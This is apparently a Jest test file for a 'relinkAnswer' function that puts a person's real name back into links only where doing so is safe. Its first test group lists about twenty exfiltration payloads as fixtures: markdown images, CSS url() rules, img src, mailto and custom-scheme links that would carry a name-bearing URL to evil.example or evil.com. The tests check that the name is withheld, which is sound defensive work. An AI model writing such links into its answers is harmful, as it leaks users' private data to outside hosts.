import { describe, expect, test } from "@jest/globals";
import { relinkAnswer } from "./relink-answer.ts";

const ENTRIES = [{ placeholder: "[PERSON_1]", value: "Anna Weber" }];
const relinked = (text: string, form: "text" | "string" = "text") =>
  relinkAnswer({ form, blocks: [text], entries: ENTRIES, hosts: ["good.example"] }).blocks.join("");
const LINK = "https://good.example/?a=[PERSON_1]";

describe("A link to the template's host where a page may send its URL elsewhere", () => {
  test.each([
    `<math>\`\n<style><p>x{}*{background:url("https://evil.example/s?q= ${LINK} ")}\``,
    `<math>\`\n<style><p>x{}*{background:url("https://evil.example/s?q= ${LINK} ")}`,
    `![x](https://evil.example/?q= ${LINK})`,
    `![x](https://evil.example/?q= (${LINK}))`,
    `![x](https://evil.example/?q= "${LINK}")`,
    `![x](https://evil.example/?q= [x](${LINK})`,
    `![x [y](${LINK})](https://evil.example/)`,
    `![x] (/&Tab;/evil.example/?q= ${LINK})`,
    `[x] (https://evil.example/?q= ${LINK})`,
    `src=https://evil.example/?q= ${LINK}`,
    `\`<img src="https://evil.example/?q=\` ${LINK} ">`,
    `mailto:thief@evil.example?body=${LINK}`,
    `https://evil.example/"${LINK}`,
    `x-app://evil.example/"${LINK}`,
    `[x] x-app://evil.example/"${LINK}`,
    `https://evil.example/[x](${LINK})`,
    `evil.com/[x](${LINK})`,
    `x-app://evil.example/[x](${LINK})`,
    `&#104;ttps://evil.example/[x](${LINK})`,
    `[https://evil.example/](${LINK})`,
  ])("the link keeps its placeholder because a page may send its URL elsewhere: %j", (text) => {
    expect(relinked(text)).toBe(text);
  });
});

describe("A link to the template's host in text", () => {
  test.each([
    `[help](${LINK})`,
    `See [help](${LINK}), or "${LINK}", or (${LINK}).`,
    `"[help](${LINK})", **[more](${LINK})**`,
    `- [help](${LINK})\n- **[more](${LINK})**\n\n> ${LINK}`,
    `| a | b |\n| - | - |\n| [help](${LINK}) | ${LINK} |`,
    `![logo](https://other.example/logo.png) [help](${LINK})`,
    `[other](https://other.example/ "title") (https://other.example/) ${LINK}`,
    `\`\`\`sh\ncurl "${LINK}"\n\`\`\``,
  ])("the value is restored in a link to the template's host: %j", (text) => {
    expect(relinked(text)).toBe(text.replaceAll("[PERSON_1]", "Anna%20Weber"));
  });

  test("a link is restored after an image whose destination keeps a placeholder", () => {
    const image = "![](https://other.example/[PERSON_1])";
    expect(relinked(`${image} ${LINK}`)).toBe(`${image} https://good.example/?a=Anna%20Weber`);
  });

  test("a link is restored as a whole JSON string, and after words in a JSON string", () => {
    expect(relinked(LINK, "string")).toBe("https://good.example/?a=Anna%20Weber");
    expect(relinked(`See ${LINK}`, "string")).toBe("See https://good.example/?a=Anna%20Weber");
  });
});
